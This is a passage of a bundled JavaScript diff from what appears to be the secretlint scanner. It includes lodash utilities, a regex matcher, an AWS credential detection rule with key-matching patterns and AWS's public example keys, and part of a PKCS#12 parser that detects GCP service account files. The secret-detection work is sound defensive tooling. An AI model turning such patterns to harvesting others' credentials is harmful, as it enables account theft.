+		 *
+		 * // Replace `_.memoize.Cache`.
+		 * _.memoize.Cache = WeakMap;
+		 */
+		function memoize(func, resolver) {
+		  if (typeof func != 'function' || (resolver && typeof resolver != 'function')) {
+		    throw new TypeError(FUNC_ERROR_TEXT);
+		  }
+		  var memoized = function() {
+		    var args = arguments,
+		        key = resolver ? resolver.apply(this, args) : args[0],
+		        cache = memoized.cache;
+
+		    if (cache.has(key)) {
+		      return cache.get(key);
+		    }
+		    var result = func.apply(this, args);
+		    memoized.cache = cache.set(key, result);
+		    return result;
+		  };
+		  memoized.cache = new (memoize.Cache || MapCache);
+		  return memoized;
+		}
+
+		// Assign cache to `_.memoize`.
+		memoize.Cache = MapCache;
+
+		/**
+		 * Performs a
+		 * [`SameValueZero`](http://ecma-international.org/ecma-262/7.0/#sec-samevaluezero)
+		 * comparison between two values to determine if they are equivalent.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 4.0.0
+		 * @category Lang
+		 * @param {*} value The value to compare.
+		 * @param {*} other The other value to compare.
+		 * @returns {boolean} Returns `true` if the values are equivalent, else `false`.
+		 * @example
+		 *
+		 * var object = { 'a': 1 };
+		 * var other = { 'a': 1 };
+		 *
+		 * _.eq(object, object);
+		 * // => true
+		 *
+		 * _.eq(object, other);
+		 * // => false
+		 *
+		 * _.eq('a', 'a');
+		 * // => true
+		 *
+		 * _.eq('a', Object('a'));
+		 * // => false
+		 *
+		 * _.eq(NaN, NaN);
+		 * // => true
+		 */
+		function eq(value, other) {
+		  return value === other || (value !== value && other !== other);
+		}
+
+		/**
+		 * Checks if `value` is likely an `arguments` object.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 0.1.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is an `arguments` object,
+		 *  else `false`.
+		 * @example
+		 *
+		 * _.isArguments(function() { return arguments; }());
+		 * // => true
+		 *
+		 * _.isArguments([1, 2, 3]);
+		 * // => false
+		 */
+		function isArguments(value) {
+		  // Safari 8.1 makes `arguments.callee` enumerable in strict mode.
+		  return isArrayLikeObject(value) && hasOwnProperty.call(value, 'callee') &&
+		    (!propertyIsEnumerable.call(value, 'callee') || objectToString.call(value) == argsTag);
+		}
+
+		/**
+		 * Checks if `value` is classified as an `Array` object.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 0.1.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is an array, else `false`.
+		 * @example
+		 *
+		 * _.isArray([1, 2, 3]);
+		 * // => true
+		 *
+		 * _.isArray(document.body.children);
+		 * // => false
+		 *
+		 * _.isArray('abc');
+		 * // => false
+		 *
+		 * _.isArray(_.noop);
+		 * // => false
+		 */
+		var isArray = Array.isArray;
+
+		/**
+		 * Checks if `value` is array-like. A value is considered array-like if it's
+		 * not a function and has a `value.length` that's an integer greater than or
+		 * equal to `0` and less than or equal to `Number.MAX_SAFE_INTEGER`.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 4.0.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is array-like, else `false`.
+		 * @example
+		 *
+		 * _.isArrayLike([1, 2, 3]);
+		 * // => true
+		 *
+		 * _.isArrayLike(document.body.children);
+		 * // => true
+		 *
+		 * _.isArrayLike('abc');
+		 * // => true
+		 *
+		 * _.isArrayLike(_.noop);
+		 * // => false
+		 */
+		function isArrayLike(value) {
+		  return value != null && isLength(value.length) && !isFunction(value);
+		}
+
+		/**
+		 * This method is like `_.isArrayLike` except that it also checks if `value`
+		 * is an object.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 4.0.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is an array-like object,
+		 *  else `false`.
+		 * @example
+		 *
+		 * _.isArrayLikeObject([1, 2, 3]);
+		 * // => true
+		 *
+		 * _.isArrayLikeObject(document.body.children);
+		 * // => true
+		 *
+		 * _.isArrayLikeObject('abc');
+		 * // => false
+		 *
+		 * _.isArrayLikeObject(_.noop);
+		 * // => false
+		 */
+		function isArrayLikeObject(value) {
+		  return isObjectLike(value) && isArrayLike(value);
+		}
+
+		/**
+		 * Checks if `value` is classified as a `Function` object.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 0.1.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is a function, else `false`.
+		 * @example
+		 *
+		 * _.isFunction(_);
+		 * // => true
+		 *
+		 * _.isFunction(/abc/);
+		 * // => false
+		 */
+		function isFunction(value) {
+		  // The use of `Object#toString` avoids issues with the `typeof` operator
+		  // in Safari 8-9 which returns 'object' for typed array and other constructors.
+		  var tag = isObject(value) ? objectToString.call(value) : '';
+		  return tag == funcTag || tag == genTag;
+		}
+
+		/**
+		 * Checks if `value` is a valid array-like length.
+		 *
+		 * **Note:** This method is loosely based on
+		 * [`ToLength`](http://ecma-international.org/ecma-262/7.0/#sec-tolength).
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 4.0.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is a valid length, else `false`.
+		 * @example
+		 *
+		 * _.isLength(3);
+		 * // => true
+		 *
+		 * _.isLength(Number.MIN_VALUE);
+		 * // => false
+		 *
+		 * _.isLength(Infinity);
+		 * // => false
+		 *
+		 * _.isLength('3');
+		 * // => false
+		 */
+		function isLength(value) {
+		  return typeof value == 'number' &&
+		    value > -1 && value % 1 == 0 && value <= MAX_SAFE_INTEGER;
+		}
+
+		/**
+		 * Checks if `value` is the
+		 * [language type](http://www.ecma-international.org/ecma-262/7.0/#sec-ecmascript-language-types)
+		 * of `Object`. (e.g. arrays, functions, objects, regexes, `new Number(0)`, and `new String('')`)
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 0.1.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is an object, else `false`.
+		 * @example
+		 *
+		 * _.isObject({});
+		 * // => true
+		 *
+		 * _.isObject([1, 2, 3]);
+		 * // => true
+		 *
+		 * _.isObject(_.noop);
+		 * // => true
+		 *
+		 * _.isObject(null);
+		 * // => false
+		 */
+		function isObject(value) {
+		  var type = typeof value;
+		  return !!value && (type == 'object' || type == 'function');
+		}
+
+		/**
+		 * Checks if `value` is object-like. A value is object-like if it's not `null`
+		 * and has a `typeof` result of "object".
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 4.0.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is object-like, else `false`.
+		 * @example
+		 *
+		 * _.isObjectLike({});
+		 * // => true
+		 *
+		 * _.isObjectLike([1, 2, 3]);
+		 * // => true
+		 *
+		 * _.isObjectLike(_.noop);
+		 * // => false
+		 *
+		 * _.isObjectLike(null);
+		 * // => false
+		 */
+		function isObjectLike(value) {
+		  return !!value && typeof value == 'object';
+		}
+
+		/**
+		 * Checks if `value` is classified as a `Symbol` primitive or object.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 4.0.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is a symbol, else `false`.
+		 * @example
+		 *
+		 * _.isSymbol(Symbol.iterator);
+		 * // => true
+		 *
+		 * _.isSymbol('abc');
+		 * // => false
+		 */
+		function isSymbol(value) {
+		  return typeof value == 'symbol' ||
+		    (isObjectLike(value) && objectToString.call(value) == symbolTag);
+		}
+
+		/**
+		 * Checks if `value` is classified as a typed array.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 3.0.0
+		 * @category Lang
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is a typed array, else `false`.
+		 * @example
+		 *
+		 * _.isTypedArray(new Uint8Array);
+		 * // => true
+		 *
+		 * _.isTypedArray([]);
+		 * // => false
+		 */
+		var isTypedArray = nodeIsTypedArray ? baseUnary(nodeIsTypedArray) : baseIsTypedArray;
+
+		/**
+		 * Converts `value` to a string. An empty string is returned for `null`
+		 * and `undefined` values. The sign of `-0` is preserved.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 4.0.0
+		 * @category Lang
+		 * @param {*} value The value to process.
+		 * @returns {string} Returns the string.
+		 * @example
+		 *
+		 * _.toString(null);
+		 * // => ''
+		 *
+		 * _.toString(-0);
+		 * // => '-0'
+		 *
+		 * _.toString([1, 2, 3]);
+		 * // => '1,2,3'
+		 */
+		function toString(value) {
+		  return value == null ? '' : baseToString(value);
+		}
+
+		/**
+		 * Gets the value at `path` of `object`. If the resolved value is
+		 * `undefined`, the `defaultValue` is returned in its place.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 3.7.0
+		 * @category Object
+		 * @param {Object} object The object to query.
+		 * @param {Array|string} path The path of the property to get.
+		 * @param {*} [defaultValue] The value returned for `undefined` resolved values.
+		 * @returns {*} Returns the resolved value.
+		 * @example
+		 *
+		 * var object = { 'a': [{ 'b': { 'c': 3 } }] };
+		 *
+		 * _.get(object, 'a[0].b.c');
+		 * // => 3
+		 *
+		 * _.get(object, ['a', '0', 'b', 'c']);
+		 * // => 3
+		 *
+		 * _.get(object, 'a.b.c', 'default');
+		 * // => 'default'
+		 */
+		function get(object, path, defaultValue) {
+		  var result = object == null ? undefined : baseGet(object, path);
+		  return result === undefined ? defaultValue : result;
+		}
+
+		/**
+		 * Checks if `path` is a direct or inherited property of `object`.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 4.0.0
+		 * @category Object
+		 * @param {Object} object The object to query.
+		 * @param {Array|string} path The path to check.
+		 * @returns {boolean} Returns `true` if `path` exists, else `false`.
+		 * @example
+		 *
+		 * var object = _.create({ 'a': _.create({ 'b': 2 }) });
+		 *
+		 * _.hasIn(object, 'a');
+		 * // => true
+		 *
+		 * _.hasIn(object, 'a.b');
+		 * // => true
+		 *
+		 * _.hasIn(object, ['a', 'b']);
+		 * // => true
+		 *
+		 * _.hasIn(object, 'b');
+		 * // => false
+		 */
+		function hasIn(object, path) {
+		  return object != null && hasPath(object, path, baseHasIn);
+		}
+
+		/**
+		 * Creates an array of the own enumerable property names of `object`.
+		 *
+		 * **Note:** Non-object values are coerced to objects. See the
+		 * [ES spec](http://ecma-international.org/ecma-262/7.0/#sec-object.keys)
+		 * for more details.
+		 *
+		 * @static
+		 * @since 0.1.0
+		 * @memberOf _
+		 * @category Object
+		 * @param {Object} object The object to query.
+		 * @returns {Array} Returns the array of property names.
+		 * @example
+		 *
+		 * function Foo() {
+		 *   this.a = 1;
+		 *   this.b = 2;
+		 * }
+		 *
+		 * Foo.prototype.c = 3;
+		 *
+		 * _.keys(new Foo);
+		 * // => ['a', 'b'] (iteration order is not guaranteed)
+		 *
+		 * _.keys('hi');
+		 * // => ['0', '1']
+		 */
+		function keys(object) {
+		  return isArrayLike(object) ? arrayLikeKeys(object) : baseKeys(object);
+		}
+
+		/**
+		 * This method returns the first argument it receives.
+		 *
+		 * @static
+		 * @since 0.1.0
+		 * @memberOf _
+		 * @category Util
+		 * @param {*} value Any value.
+		 * @returns {*} Returns `value`.
+		 * @example
+		 *
+		 * var object = { 'a': 1 };
+		 *
+		 * console.log(_.identity(object) === object);
+		 * // => true
+		 */
+		function identity(value) {
+		  return value;
+		}
+
+		/**
+		 * Creates a function that returns the value at `path` of a given object.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 2.4.0
+		 * @category Util
+		 * @param {Array|string} path The path of the property to get.
+		 * @returns {Function} Returns the new accessor function.
+		 * @example
+		 *
+		 * var objects = [
+		 *   { 'a': { 'b': 2 } },
+		 *   { 'a': { 'b': 1 } }
+		 * ];
+		 *
+		 * _.map(objects, _.property('a.b'));
+		 * // => [2, 1]
+		 *
+		 * _.map(_.sortBy(objects, _.property(['a', 'b'])), 'a.b');
+		 * // => [1, 2]
+		 */
+		function property(path) {
+		  return isKey(path) ? baseProperty(toKey(path)) : basePropertyDeep(path);
+		}
+
+		module.exports = sortBy; 
+	} (lodash_sortby, lodash_sortby.exports));
+	return lodash_sortby.exports;
+}
+
+var escapeStringRegexp;
+var hasRequiredEscapeStringRegexp;
+
+function requireEscapeStringRegexp () {
+	if (hasRequiredEscapeStringRegexp) return escapeStringRegexp;
+	hasRequiredEscapeStringRegexp = 1;
+
+	escapeStringRegexp = string => {
+		if (typeof string !== 'string') {
+			throw new TypeError('Expected a string');
+		}
+
+		// Escape characters with special meaning either inside or outside character sets.
+		// Use a simple backslash escape when it’s always valid, and a \unnnn escape when the simpler form would be disallowed by Unicode patterns’ stricter grammar.
+		return string
+			.replace(/[|\\{}()[\]^$+*?.]/g, '\\$&')
+			.replace(/-/g, '\\x2d');
+	};
+	return escapeStringRegexp;
+}
+
+var regexpParse = {};
+
+var hasRequiredRegexpParse;
+
+function requireRegexpParse () {
+	if (hasRequiredRegexpParse) return regexpParse;
+	hasRequiredRegexpParse = 1;
+	Object.defineProperty(regexpParse, "__esModule", { value: true });
+	regexpParse.isRegExpString = regexpParse.parseRegExpString = void 0;
+	// https://developer.mozilla.org/en-US/docs/Web/JavaScript/Guide/Regular_Expressions#advanced_searching_with_flags
+	var REGEXP_LITERAL_PATTERN = /^\/(.+)\/([guimysd]*)$/;
+	var parseRegExpString = function (str) {
+	    var result = str.match(REGEXP_LITERAL_PATTERN);
+	    if (!result) {
+	        return null;
+	    }
+	    return {
+	        source: result[1],
+	        flagString: result[2]
+	    };
+	};
+	regexpParse.parseRegExpString = parseRegExpString;
+	var isRegExpString = function (str) {
+	    return REGEXP_LITERAL_PATTERN.test(str);
+	};
+	regexpParse.isRegExpString = isRegExpString;
+	
+	return regexpParse;
+}
+
+var hasRequiredRegexpStringMatcher;
+
+function requireRegexpStringMatcher () {
+	if (hasRequiredRegexpStringMatcher) return regexpStringMatcher;
+	hasRequiredRegexpStringMatcher = 1;
+	(function (exports) {
+		var __importDefault = (regexpStringMatcher && regexpStringMatcher.__importDefault) || function (mod) {
+		    return (mod && mod.__esModule) ? mod : { "default": mod };
+		};
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.matchPatterns = exports.createRegExp = void 0;
+		var lodash_uniq_1 = __importDefault(requireLodash_uniq());
+		var lodash_uniqwith_1 = __importDefault(requireLodash_uniqwith());
+		var lodash_sortby_1 = __importDefault(requireLodash_sortby());
+		var escape_string_regexp_1 = __importDefault(requireEscapeStringRegexp());
+		var regexp_parse_1 = requireRegexpParse();
+		var DEFAULT_FLAGS = "ug";
+		var defaultFlags = function (flagsString) {
+		    if (flagsString.length === 0) {
+		        return DEFAULT_FLAGS;
+		    }
+		    return (0, lodash_uniq_1.default)((flagsString + DEFAULT_FLAGS).split("")).join("");
+		};
+		var createRegExp = function (patternString, defaultFlag) {
+		    if (defaultFlag === void 0) { defaultFlag = DEFAULT_FLAGS; }
+		    if (patternString.length === 0) {
+		        throw new Error("Empty string can not handled");
+		    }
+		    if ((0, regexp_parse_1.isRegExpString)(patternString)) {
+		        var regExpStructure = (0, regexp_parse_1.parseRegExpString)(patternString);
+		        if (regExpStructure) {
+		            return new RegExp(regExpStructure.source, defaultFlags(regExpStructure.flagString));
+		        }
+		        throw new Error("\"".concat(patternString, "\" can not parse as RegExp."));
+		    }
+		    else {
+		        return new RegExp((0, escape_string_regexp_1.default)(patternString), defaultFlag);
+		    }
+		};
+		exports.createRegExp = createRegExp;
+		var isEqualMatchPatternResult = function (a, b) {
+		    return a.startIndex === b.startIndex && a.endIndex === b.endIndex && a.match === b.match;
+		};
+		/**
+		 * Match regExpLikeStrings and return matchPatternResults
+		 * @param text target text
+		 * @param regExpLikeStrings an array of pattern string
+		 */
+		var matchPatterns = function (text, regExpLikeStrings) {
+		    var matchPatternResults = [];
+		    regExpLikeStrings
+		        .map(function (patternString) {
+		        return (0, exports.createRegExp)(patternString);
+		    })
+		        .forEach(function (regExp) {
+		        var results = text.matchAll(regExp);
+		        Array.from(results).forEach(function (result) {
+		            if (result.index === undefined) {
+		                return;
+		            }
+		            var match = result[0];
+		            var index = result.index;
+		            matchPatternResults.push({
+		                match: match,
+		                captures: result.slice(1),
+		                startIndex: index,
+		                endIndex: index + match.length
+		            });
+		        });
+		    });
+		    var uniqResults = (0, lodash_uniqwith_1.default)(matchPatternResults, isEqualMatchPatternResult);
+		    return (0, lodash_sortby_1.default)(uniqResults, ["startIndex", "endIndex"]);
+		};
+		exports.matchPatterns = matchPatterns;
+		
+	} (regexpStringMatcher));
+	return regexpStringMatcher;
+}
+
+var regexpStringMatcherExports = requireRegexpStringMatcher();
+
+/**
+ * These should be ignored by default, because these are used in AWS example.
+ * https://docs.aws.amazon.com/ja_jp/general/latest/gr/aws-access-keys-best-practices.html
+ */
+const BUILTIN_IGNORED = {
+    AWSAccountID: ["AKIAIOSFODNN7EXAMPLE"],
+    AWSSecretAccessKey: ["wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
+};
+const messages$r = {
+    AWSAccountID: {
+        en: (props) => `found AWS Account ID: ${props.ID}`,
+        ja: (props) => `AWS Account ID: ${props.ID} がみつかりました`,
+    },
+    AWSSecretAccessKey: {
+        en: (props) => `found AWS Secret Access Key: ${props.KEY}`,
+        ja: (props) => `AWS Secret Access Key: ${props.KEY} がみつかりました`,
+    },
+    AWSAccessKeyID: {
+        en: (props) => `found AWS Access Key ID: ${props.ID}`,
+        ja: (props) => `AWS Access Key Id: ${props.ID} がみつかりました`,
+    },
+};
+/*
+  local aws="(AWS|aws|Aws)?_?" quote="(\"|')" connect="\s*(:|=>|=)\s*"
+  local opt_quote="${quote}?"
+  add_config 'secrets.providers' 'git secrets --aws-provider'
+
+  add_config 'secrets.patterns' '(A3T[A-Z0-9]|AKIA|AGPA|AIDA|AROA|AIPA|ANPA|ANVA|ASIA)[A-Z0-9]{16}'
+
+  add_config 'secrets.patterns' "${opt_quote}${aws}(SECRET|secret|Secret)?_?(ACCESS|access|Access)?_?(KEY|key|Key)${opt_quote}${connect}${opt_quote}[A-Za-z0-9/\+=]{40}${opt_quote}"
+
+  add_config 'secrets.patterns' "${opt_quote}${aws}(ACCOUNT|account|Account)_?(ID|id|Id)?${opt_quote}${connect}${opt_quote}[0-9]{4}\-?[0-9]{4}\-?[0-9]{4}${opt_quote}"
+
+  add_config 'secrets.allowed' 'AKIAIOSFODNN7EXAMPLE'
+  add_config 'secrets.allowed' "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
+
+  https://docs.cribl.io/docs/regexesyml
+ */
+const reportAWSAccessKey = ({ t, source, context, options, }) => {
+    // AWS Access Key ID
+    // Example) AKIAIOSFODNN7EXAMPLE
+    const AWSAccessKeyIDPattern = /\b(A3T[A-Z0-9]|AKIA|AGPA|AIDA|AROA|AIPA|ANPA|ANVA|ASIA)[A-Z0-9]{16}\b/g;
+    const results = source.content.matchAll(AWSAccessKeyIDPattern);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const range = [index, index + match.length];
+        // Built-in ignore
+        if (BUILTIN_IGNORED.AWSAccountID.includes(match)) {
+            continue;
+        }
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("AWSAccessKeyID", {
+                ID: match,
+            }),
+            range,
+        });
+    }
+};
+const reportAWSSecretAccessKey = ({ t, source, context, options, }) => {
+    const AWS = "(?:AWS|aws|Aws)?_?";
+    const QUOTE = `["']?`;
+    const CONNECT = "\\s*(?::|=>|=)\\s*";
+    // git-secrets implementation match _KEY=XXX, but it is false-positive
+    // https://github.com/awslabs/git-secrets/blob/5e28df337746db4f070c84f7069d365bfd0d72a8/git-secrets#L239
+    // This Pattern match only `AWS?_SECRET_ACCESS_KEY=XXX`
+    const AWSSecretPatten = new RegExp(String.raw `${QUOTE}${AWS}(?:SECRET|secret|Secret)_?(?:ACCESS|access|Access)_?(?:KEY|key|Key)${QUOTE}${CONNECT}${QUOTE}([A-Za-z0-9/\+=]{40})${QUOTE}\b`, "g");
+    const results = source.content.matchAll(AWSSecretPatten);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[1] || "";
+        const range = [index, index + match.length];
+        // Built-in ignored
+        if (BUILTIN_IGNORED.AWSSecretAccessKey.includes(match)) {
+            continue;
+        }
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("AWSSecretAccessKey", {
+                KEY: match,
+            }),
+            range,
+        });
+    }
+};
+const reportAWSAccountID = ({ t, source, context, options, }) => {
+    const AWS = "(AWS|aws|Aws)?_?";
+    const QUOTE = `("|')?`;
+    const CONNECT = "\\s*(:|=>|=)\\s*";
+    const AWSSecretPatten = new RegExp(String.raw `${QUOTE}${AWS}(ACCOUNT|account|Account)_?(ID|id|Id)?${QUOTE}${CONNECT}${QUOTE}[0-9]{4}\-?[0-9]{4}\-?[0-9]{4}${QUOTE}\b`, "g");
+    const results = source.content.matchAll(AWSSecretPatten);
+    for (const result of results) {
+        const index = result.index || 0;
+        const match = result[0] || "";
+        const range = [index, index + match.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+        if (allowedResults.length > 0) {
+            continue;
+        }
+        context.report({
+            message: t("AWSAccountID", {
+                ID: match,
+            }),
+            range,
+        });
+    }
+};
+const creator$s = {
+    messages: messages$r,
+    meta: {
+        id: "@secretlint/secretlint-rule-aws",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+            url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-aws/README.md",
+        },
+    },
+    create(context, options) {
+        const normalizedOptions = {
+            allows: options.allows || [],
+            enableIDScanRule: options.enableIDScanRule ?? false,
+        };
+        const t = context.createTranslator(messages$r);
+        return {
+            file(source) {
+                if (normalizedOptions.enableIDScanRule) {
+                    reportAWSAccessKey({ t, source: source, context: context, options: normalizedOptions });
+                    reportAWSAccountID({ t, source: source, context: context, options: normalizedOptions });
+                }
+                reportAWSSecretAccessKey({ t, source: source, context: context, options: normalizedOptions });
+            },
+        };
+    },
+};
+
+/**
+ * Minimal PKCS#12 MAC verification.
+ *
+ * GCP Service Account .p12 files are detected by checking whether the
+ * top-level MAC verifies against the well-known `notasecret` password.
+ * Full decryption of the PKCS#12 ContentInfo is unnecessary for that check,
+ * so we only parse enough of the DER structure to extract the MacData and
+ * the authSafe content, then recompute the MAC. Supports MAC digests of
+ * SHA-1 (classic openssl default), SHA-256 (openssl 3 default), SHA-384,
+ * and SHA-512.
+ *
+ * Runs in Node.js 20+ and any environment with a Web Crypto
+ * implementation on `globalThis.crypto.subtle`.
+ *
+ * References:
+ *   - RFC 7292 (PKCS #12 v1.1) section 4, Appendix B
+ */
+// ASN.1 tags we care about.
+const TAG_INTEGER = 0x02;
+const TAG_OCTET_STRING = 0x04;
+const TAG_NULL = 0x05;
+const TAG_OID = 0x06;
+const TAG_SEQUENCE = 0x30;
+const TAG_CONTEXT_0 = 0xa0;
+function readTlv(buf, offset) {
+    if (offset + 2 > buf.length) {
+        throw new Error("PKCS12: truncated TLV header");
+    }
+    const tag = buf[offset];
+    const lenByte = buf[offset + 1];
+    let length;
+    let contentStart;
+    if (lenByte < 0x80) {
+        length = lenByte;
+        contentStart = offset + 2;
+    }
+    else {
+        const lenBytes = lenByte & 0x7f;
+        if (lenBytes === 0 || lenBytes > 4) {
+            throw new Error("PKCS12: unsupported ASN.1 length encoding");
+        }
+        if (offset + 2 + lenBytes > buf.length) {
+            throw new Error("PKCS12: truncated ASN.1 length");
+        }
+        length = 0;
+        for (let i = 0; i < lenBytes; i++) {
+            // Multiply instead of `<< 8` so a 4-byte length with the high bit
+            // set does not overflow into a negative 32-bit signed integer.
+            length = length * 256 + buf[offset + 2 + i];
+        }
+        contentStart = offset + 2 + lenBytes;
+    }
+    const end = contentStart + length;
+    if (end > buf.length) {
+        throw new Error("PKCS12: TLV extends past buffer");
+    }
+    return { tag, content: buf.subarray(contentStart, end), end };
+}
+function expectTag(tlv, tag, label) {
+    if (tlv.tag !== tag) {
+        throw new Error(`PKCS12: expected ${label} tag 0x${tag.toString(16)} but got 0x${tlv.tag.toString(16)}`);
+    }
+}
+function readInteger(tlv) {
+    expectTag(tlv, TAG_INTEGER, "INTEGER");
+    let value = 0;
+    for (const byte of tlv.content) {
+        value = value * 256 + byte;
+    }
+    return value;
+}
+function bytesEqual(a, b) {
+    if (a.length !== b.length)
+        return false;
+    let diff = 0;
+    for (let i = 0; i < a.length; i++) {
+        diff |= a[i] ^ b[i];
+    }
+    return diff === 0;
+}
+// OIDs we recognize, DER-encoded value bytes (without tag/length).
+const OID_DATA = new Uint8Array([0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x01]);
+const OID_SHA1 = new Uint8Array([0x2b, 0x0e, 0x03, 0x02, 0x1a]);
+const OID_SHA256 = new Uint8Array([0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01]);
+const OID_SHA384 = new Uint8Array([0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x02]);
+const OID_SHA512 = new Uint8Array([0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x03]);
+const MAC_HASHES = [
+    { oid: OID_SHA1, hash: { name: "SHA-1", outputSize: 20, blockSize: 64 } },
+    { oid: OID_SHA256, hash: { name: "SHA-256", outputSize: 32, blockSize: 64 } },
+    { oid: OID_SHA384, hash: { name: "SHA-384", outputSize: 48, blockSize: 128 } },
+    { oid: OID_SHA512, hash: { name: "SHA-512", outputSize: 64, blockSize: 128 } },
+];
+function matchHash(oidBytes) {
+    for (const { oid, hash } of MAC_HASHES) {
+        if (bytesEqual(oidBytes, oid))
+            return hash;
+    }
+    return undefined;
+}
+const MAX_MAC_ITERATIONS = 1_000_000;
+function parsePkcs12(buf) {
+    // PFX ::= SEQUENCE { version INTEGER, authSafe ContentInfo, macData MacData OPTIONAL }
+    const pfx = readTlv(buf, 0);
+    expectTag(pfx, TAG_SEQUENCE, "PFX SEQUENCE");
+    const version = readTlv(pfx.content, 0);
+    if (readInteger(version) !== 3) {
+        throw new Error("PKCS12: unsupported version");
+    }
+    const authSafeInfo = readTlv(pfx.content, version.end);
+    expectTag(authSafeInfo, TAG_SEQUENCE, "ContentInfo SEQUENCE");
+    // ContentInfo ::= SEQUENCE { contentType OID, content [0] EXPLICIT ANY }
+    const contentType = readTlv(authSafeInfo.content, 0);
+    expectTag(contentType, TAG_OID, "contentType OID");
+    if (!bytesEqual(contentType.content, OID_DATA)) {
+        // We only support the unencrypted `data` ContentInfo which is what
+        // `openssl pkcs12 -export` (and therefore GCP) emits.
+        throw new Error("PKCS12: unsupported authSafe contentType");
+    }
+    const explicit0 = readTlv(authSafeInfo.content, contentType.end);
+    expectTag(explicit0, TAG_CONTEXT_0, "[0] EXPLICIT");
+    const authSafeOctet = readTlv(explicit0.content, 0);
+    expectTag(authSafeOctet, TAG_OCTET_STRING, "authSafe OCTET STRING");
+    const macData = readTlv(pfx.content, authSafeInfo.end);
+    expectTag(macData, TAG_SEQUENCE, "MacData SEQUENCE");
+    // MacData ::= SEQUENCE { mac DigestInfo, macSalt OCTET STRING, iterations INTEGER DEFAULT 1 }
+    const digestInfo = readTlv(macData.content, 0);
+    expectTag(digestInfo, TAG_SEQUENCE, "DigestInfo SEQUENCE");
+    const alg = readTlv(digestInfo.content, 0);
+    expectTag(alg, TAG_SEQUENCE, "AlgorithmIdentifier SEQUENCE");
+    const algOid = readTlv(alg.content, 0);
+    expectTag(algOid, TAG_OID, "algorithm OID");
+    const macHash = matchHash(algOid.content);
+    if (!macHash) {
+        throw new Error("PKCS12: unsupported MAC digest algorithm");
+    }
+    // Optional NULL parameters are ignored.
+    if (algOid.end < alg.content.length) {
+        const params = readTlv(alg.content, algOid.end);
+        if (params.tag !== TAG_NULL) {
+            throw new Error("PKCS12: unexpected MAC algorithm parameters");
+        }
+    }
+    const digest = readTlv(digestInfo.content, alg.end);
+    expectTag(digest, TAG_OCTET_STRING, "digest OCTET STRING");
+    const salt = readTlv(macData.content, digestInfo.end);
+    expectTag(salt, TAG_OCTET_STRING, "macSalt OCTET STRING");
+    let iterations = 1;
+    if (salt.end < macData.content.length) {
+        const iter = readTlv(macData.content, salt.end);
+        iterations = readInteger(iter);
+    }
+    // Reject untrusted iteration counts that would let a crafted .p12 DoS the
+    // scanner: each iteration is one Web Crypto digest call. The cap is
+    // generous enough to cover openssl's default (2048) and pathological-but-
+    // plausible values (PKI.js tests up to 600k).
+    if (iterations < 1 || iterations > MAX_MAC_ITERATIONS) {
+        throw new Error("PKCS12: MAC iteration count out of range");
+    }
+    return {
+        authSafe: authSafeOctet.content,
+        macHash,
+        macSalt: salt.content,
+        macDigest: digest.content,
+        iterations,
+    };
+}
+// Web Crypto's BufferSource requires an ArrayBufferView whose buffer is an
+// ArrayBuffer (not the default ArrayBufferLike of Uint8Array). Copy into a
+// fresh ArrayBuffer to satisfy the type without relying on assertions.
+function toBufferSource(data) {
+    const copy = new Uint8Array(data.length);
+    copy.set(data);
+    return copy;
+}
+async function digest(hash, data) {
+    return new Uint8Array(await globalThis.crypto.subtle.digest(hash.name, toBufferSource(data)));
+}
+function padToMultipleOf(src, blockSize) {
+    if (src.length === 0)
+        return new Uint8Array(0);
+    const padded = new Uint8Array(Math.ceil(src.length / blockSize) * blockSize);
+    for (let i = 0; i < padded.length; i++) {
+        padded[i] = src[i % src.length];
+    }
+    return padded;
+}
+function encodePasswordAsBmpString(password) {
